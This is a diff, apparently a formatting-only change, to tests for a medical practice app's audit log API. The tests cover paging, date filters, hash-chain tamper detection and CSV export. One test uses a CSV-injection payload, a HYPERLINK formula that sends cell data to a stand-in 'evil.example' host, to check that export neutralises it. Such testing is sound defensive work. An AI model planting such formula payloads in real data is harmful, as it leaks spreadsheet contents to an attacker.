@@ -18,11 +18,48 @@ import { mysqlSkip } from '../support/test-env';
 import { csvRecords, oneCharacterChanged, Row, sql, tamper, todayIn } from './admin-support';
 
 const CSV_COLUMNS = [
-  'id', 'createdAt', 'action', 'actorType', 'actorId', 'actorName', 'patientId', 'patientName', 'patientMrn', 'reason', 'identityVerification', 'note',
-  'previousStatus', 'retiredUsername', 'invitationId', 'sentTo', 'chartChecksumBefore', 'chartChecksumAfter', 'ip', 'userAgent',
-  'details', 'hash', 'prevHash',
+  'id',
+  'createdAt',
+  'action',
+  'actorType',
+  'actorId',
+  'actorName',
+  'patientId',
+  'patientName',
+  'patientMrn',
+  'reason',
+  'identityVerification',
+  'note',
+  'previousStatus',
+  'retiredUsername',
+  'invitationId',
+  'sentTo',
+  'chartChecksumBefore',
+  'chartChecksumAfter',
+  'ip',
+  'userAgent',
+  'details',
+  'hash',
+  'prevHash',
 ];
-const VIEW_KEYS = ['action', 'actorId', 'actorName', 'actorType', 'createdAt', 'details', 'hash', 'id', 'ip', 'patientId', 'patientMrn', 'patientName', 'practiceId', 'prevHash', 'reason', 'userAgent'];
+const VIEW_KEYS = [
+  'action',
+  'actorId',
+  'actorName',
+  'actorType',
+  'createdAt',
+  'details',
+  'hash',
+  'id',
+  'ip',
+  'patientId',
+  'patientMrn',
+  'patientName',
+  'practiceId',
+  'prevHash',
+  'reason',
+  'userAgent',
+];
 const MAPLE_ZONE = 'America/Los_Angeles';
 
 describe('audit log API', { skip: mysqlSkip }, () => {
@@ -64,7 +101,10 @@ describe('audit log API', { skip: mysqlSkip }, () => {
       const response = await list(admin, {});
       assert.equal(response.status, 200);
       assert.equal(response.headers['content-range'], `audit-events 0-${rows.length - 1}/${rows.length}`);
-      assert.deepEqual(response.body.map((e: Row) => e.id), rows.map((r) => r.id).reverse());
+      assert.deepEqual(
+        response.body.map((e: Row) => e.id),
+        rows.map((r) => r.id).reverse(),
+      );
       const newest = response.body[0];
       assert.deepEqual(Object.keys(newest).sort(), VIEW_KEYS);
       const stored = rows[rows.length - 1]!;
@@ -78,7 +118,10 @@ describe('audit log API', { skip: mysqlSkip }, () => {
       const rows = await mapleEvents();
       const page = await admin.get('/api/audit-events').query({ range: '[2,4]', sort: '["seq","ASC"]' });
       assert.equal(page.headers['content-range'], `audit-events 2-4/${rows.length}`);
-      assert.deepEqual(page.body.map((e: Row) => e.id), rows.slice(2, 5).map((r) => r.id));
+      assert.deepEqual(
+        page.body.map((e: Row) => e.id),
+        rows.slice(2, 5).map((r) => r.id),
+      );
       const oldest = await admin.get('/api/audit-events').query({ range: '[0,0]', sort: '["createdAt","ASC"]' });
       assert.equal(oldest.body[0].id, rows[0]!.id);
       const byAction = await list(admin, {}, { sort: '["action","ASC"]' });
@@ -127,11 +170,26 @@ describe('audit log API', { skip: mysqlSkip }, () => {
       const middle = rows[Math.floor(rows.length / 2)]!;
       const at = new Date(middle.createdAt).toISOString();
       const from = await list(admin, { from: at });
-      assert.deepEqual(from.body.map((e: Row) => e.id).sort(), rows.filter((r) => r.createdAt >= middle.createdAt).map((r) => r.id).sort());
+      assert.deepEqual(
+        from.body.map((e: Row) => e.id).sort(),
+        rows
+          .filter((r) => r.createdAt >= middle.createdAt)
+          .map((r) => r.id)
+          .sort(),
+      );
       const to = await list(admin, { to: at });
-      assert.deepEqual(to.body.map((e: Row) => e.id).sort(), rows.filter((r) => r.createdAt <= middle.createdAt).map((r) => r.id).sort());
+      assert.deepEqual(
+        to.body.map((e: Row) => e.id).sort(),
+        rows
+          .filter((r) => r.createdAt <= middle.createdAt)
+          .map((r) => r.id)
+          .sort(),
+      );
       const exactly = await list(admin, { from: at, to: at, id: [middle.id] });
-      assert.deepEqual(exactly.body.map((e: Row) => e.id), [middle.id]);
+      assert.deepEqual(
+        exactly.body.map((e: Row) => e.id),
+        [middle.id],
+      );
     });
 
     it("reads a plain to date as that whole day on the practice's clock, across a DST change", async () => {
@@ -247,7 +305,11 @@ describe('audit log API', { skip: mysqlSkip }, () => {
         await tamper(t, 'DELETE FROM audit_events WHERE id = ?', [victim.id]);
         assert.deepEqual(await verify(), { valid: false, checked: at, firstBrokenId: all[at + 1]!.id });
       } finally {
-        await tamper(t, `INSERT INTO audit_events (${columns.map((c) => `\`${c}\``).join(', ')}) VALUES (${columns.map(() => '?').join(', ')})`, columns.map((c) => victim[c]));
+        await tamper(
+          t,
+          `INSERT INTO audit_events (${columns.map((c) => `\`${c}\``).join(', ')}) VALUES (${columns.map(() => '?').join(', ')})`,
+          columns.map((c) => victim[c]),
+        );
       }
       assert.equal((await verify()).valid, true);
     });
@@ -262,7 +324,11 @@ describe('audit log API', { skip: mysqlSkip }, () => {
         assert.equal(result.valid, false);
         assert.equal(result.checked, all.length - 1);
       } finally {
-        await tamper(t, `INSERT INTO audit_events (${columns.map((c) => `\`${c}\``).join(', ')}) VALUES (${columns.map(() => '?').join(', ')})`, columns.map((c) => last[c]));
+        await tamper(
+          t,
+          `INSERT INTO audit_events (${columns.map((c) => `\`${c}\``).join(', ')}) VALUES (${columns.map(() => '?').join(', ')})`,
+          columns.map((c) => last[c]),
+        );
       }
       assert.equal((await verify()).valid, true);
     });
@@ -278,7 +344,11 @@ describe('audit log API', { skip: mysqlSkip }, () => {
       assert.deepEqual(header, CSV_COLUMNS);
 
       const rows = await mapleEvents();
-      assert.deepEqual(records.map((r) => r.id), rows.map((r) => r.id), 'one row per event, oldest first');
+      assert.deepEqual(
+        records.map((r) => r.id),
+        rows.map((r) => r.id),
+        'one row per event, oldest first',
+      );
       for (const [index, record] of records.entries()) {
         const row = rows[index]!;
         assert.equal(record.createdAt, new Date(row.createdAt).toISOString());
@@ -299,7 +369,9 @@ describe('audit log API', { skip: mysqlSkip }, () => {
       const filter = { action: ['portal.reset'] };
       const response = await admin.get('/api/audit-events/export').query({ filter: JSON.stringify(filter) });
       assert.equal(response.status, 200);
-      const [exported] = await sql(t, `SELECT * FROM audit_events WHERE practiceId = ? AND action = 'audit.exported' ORDER BY seq DESC LIMIT 1`, [MAPLE_GROVE_ID]);
+      const [exported] = await sql(t, `SELECT * FROM audit_events WHERE practiceId = ? AND action = 'audit.exported' ORDER BY seq DESC LIMIT 1`, [
+        MAPLE_GROVE_ID,
+      ]);
       assert.ok(exported, 'an audit.exported event was appended');
       assert.equal(exported!.actorType, 'staff');
       assert.equal(exported!.actorName, 'Alicia Moreno');
@@ -321,13 +393,7 @@ describe('audit log API', { skip: mysqlSkip }, () => {
     });
 
     it('quotes commas, quotes and line breaks, and neutralises cells a spreadsheet would run as a formula', async () => {
-      const hostile = [
-        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
-        '+SUM(1,2)',
-        '-2+3',
-        '@SUM(A1:A2)',
-        'Mozilla/5.0 "quoted", with commas',
-      ];
+      const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1,2)', '-2+3', '@SUM(A1:A2)', 'Mozilla/5.0 "quoted", with commas'];
       for (const userAgent of hostile) {
         await admin.get(`/api/patients/${patients[1]}/chart`).set('User-Agent', userAgent).expect(200);
       }
@@ -360,9 +426,20 @@ describe('audit log API', { skip: mysqlSkip }, () => {
       for (let i = 0; i < 1100; i++) {
         seq++;
         const event: Omit<AuditEvent, 'hash'> = {
-          id: randomUUID(), practiceId: RIVERSIDE_ID, seq, action: 'email.retried', actorType: 'system', actorId: null,
-          actorName: SYSTEM_ACTOR.name, patientId: null, reason: null, details: JSON.stringify({ outboxMessageId: `bulk-${i}` }),
-          ip: null, userAgent: null, createdAt: new Date(start + i), prevHash,
+          id: randomUUID(),
+          practiceId: RIVERSIDE_ID,
+          seq,
+          action: 'email.retried',
+          actorType: 'system',
+          actorId: null,
+          actorName: SYSTEM_ACTOR.name,
+          patientId: null,
+          reason: null,
+          details: JSON.stringify({ outboxMessageId: `bulk-${i}` }),
+          ip: null,
+          userAgent: null,
+          createdAt: new Date(start + i),
+          prevHash,
         };
         const row = { ...event, hash: t.app.get(AuditChainKeys).hashFor(event, Number(head!.keyedFromSeq)) };
         bulk.push(row);
@@ -377,7 +454,10 @@ describe('audit log API', { skip: mysqlSkip }, () => {
       const { records } = csvRecords(response.text);
       const rows = await sql(t, 'SELECT id FROM audit_events WHERE practiceId = ? ORDER BY seq', [RIVERSIDE_ID]);
       assert.ok(rows.length > EXPORT_BATCH_SIZE);
-      assert.deepEqual(records.map((r) => r.id), rows.map((r) => r.id));
+      assert.deepEqual(
+        records.map((r) => r.id),
+        rows.map((r) => r.id),
+      );
 
       const verified = await riverside.get('/api/audit-events/verify');
       assert.deepEqual(verified.body, { valid: true, checked: rows.length, firstBrokenId: null });
